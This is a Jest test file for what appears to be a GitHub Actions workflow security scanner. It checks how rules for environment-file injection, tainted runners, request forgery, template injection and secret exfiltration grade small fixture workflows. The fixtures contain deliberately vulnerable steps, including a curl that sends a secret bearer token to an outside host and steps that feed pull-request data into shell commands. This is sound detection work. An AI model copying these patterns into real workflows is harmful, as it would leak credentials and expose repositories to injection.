import { expect, test } from '@jest/globals';
import { compare } from '../../src/engine/compare.ts';
import { noFacts } from '../../src/engine/facts.ts';
import type { Rule } from '../../src/engine/rule.ts';
import { githubEnv } from '../../src/rules/github-env.ts';
import { requestForgery } from '../../src/rules/request-forgery.ts';
import { secretExfiltration } from '../../src/rules/secret-exfiltration.ts';
import { taintedRunsOn } from '../../src/rules/tainted-runs-on.ts';
import { templateInjection } from '../../src/rules/template-injection.ts';
import { projectOf } from '../engine/given.ts';
import { analyzeFiles } from './fixtures.ts';

const FILES = 'tj-actions/changed-files@v47, with: { safe_output: false }';

/** What one rule says of one job: severity, confidence, audience. */
function level(rule: Rule, on: string, permissions: string, job: string): string {
  const head = `on: ${on}\npermissions: ${permissions}\njobs:\n  a:\n`;
  const { findings } = analyzeFiles([{ path: '.github/workflows/a.yml', text: `${head}${job}` }], [rule]);
  return findings.map(({ severity, confidence, audience }) => `${severity} ${confidence} ${audience}`).join(', ');
}

function run(script: string, value: string): string {
  return `    runs-on: ubuntu-latest\n    steps:\n      - env: { X: "\${{ ${value} }}" }\n        run: ${script}\n`;
}

const choice = (of: string) => `    ${of}\n    steps:\n      - run: make\n`;
const MACHINE = choice('runs-on: ${{ github.head_ref }}');
const IMAGE = choice('runs-on: ubuntu-latest\n    container: ${{ github.head_ref }}');
const BODY = run('echo "X=$X" >> "$GITHUB_ENV"', 'github.event.pull_request.body');
const HOST = run('curl "https://$X/a"', 'github.head_ref');
const PAGE = run('curl "$X/a"', 'github.event.pull_request.head.repo.homepage');
const names = (of: string) =>
  `    runs-on: ubuntu-latest\n    steps:\n      - { id: a, uses: ${FILES} }\n      - run: echo \${{ ${of} }}\n`;
const sent = (to: string, key = 'BUF_TOKEN') =>
  run(`'curl -H "Authorization: Bearer $X" https://${to}/a'`, `secrets.${key}`);

/** Protects what is shown: a token that only reads makes it less bad, not invisible; a fork's own run is the fork's. */
test.each<[string, Rule, string, string, string, string]>([
  ['lines, with a token', githubEnv, 'pull_request_target', 'write-all', BODY, 'critical medium regular'],
  ['lines, without', githubEnv, 'pull_request_target', '{ contents: read }', BODY, 'medium medium regular'],
  ['lines, of a fork', githubEnv, 'pull_request', '{ contents: read }', BODY, 'medium medium regular'],
  ['a machine, with a token', taintedRunsOn, 'pull_request_target', 'write-all', MACHINE, 'high medium regular'],
  ['a machine, without', taintedRunsOn, 'pull_request_target', '{ contents: read }', MACHINE, 'high medium regular'],
  ['a machine, of a fork', taintedRunsOn, 'pull_request', '{ contents: read }', MACHINE, 'medium medium regular'],
  ['an image, of a fork', taintedRunsOn, 'pull_request', '{ contents: read }', IMAGE, 'medium medium pedantic'],
  ['a host, with a token', requestForgery, 'pull_request_target', 'write-all', HOST, 'high medium regular'],
  ['a host, without', requestForgery, 'pull_request_target', '{ contents: read }', HOST, 'medium medium regular'],
  ['a host, of a fork', requestForgery, 'pull_request', '{ contents: read }', HOST, 'medium medium pedantic'],
  ['a page, of a fork', requestForgery, 'pull_request', '{ contents: read }', PAGE, 'medium medium regular'],
  [
    'names of files',
    templateInjection,
    'pull_request',
    '{ contents: read }',
    names('steps.a.outputs.all_changed_files'),
    'medium medium regular',
  ],
  [
    'a branch',
    templateInjection,
    'pull_request',
    '{ contents: read }',
    names('github.head_ref'),
    'medium high regular',
  ],
  ['a header, elsewhere', secretExfiltration, 'push', '{}', sent('octo-lab.dev'), 'high medium regular'],
  ['a header, its vendor', secretExfiltration, 'push', '{}', sent('buf.build'), ''],
  ['one’s own server', secretExfiltration, 'push', '{}', sent('octo-lab.dev', 'NEXUS_TOKEN'), 'high low regular'],
])('%s', (_, rule, on, permissions, job, expected) => {
  expect(level(rule, on, permissions, job)).toBe(expected);
});

test('an injection that a change adds is news, also where the file has one of the same cause', () => {
  const step = (name: string) => `      - name: ${name}\n        run: echo \${{ inputs.version }}\n`;
  const text = (steps: string) =>
    `on: { workflow_dispatch: { inputs: { version: { type: string } } } }\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
  const settings = { rules: [templateInjection], options: {}, facts: noFacts };
  const { findings } = compare(projectOf(text(step('one'))), projectOf(text(step('one') + step('two'))), settings);
  expect(findings).toMatchObject([{ status: 'worsened', line: 10 }]);
});
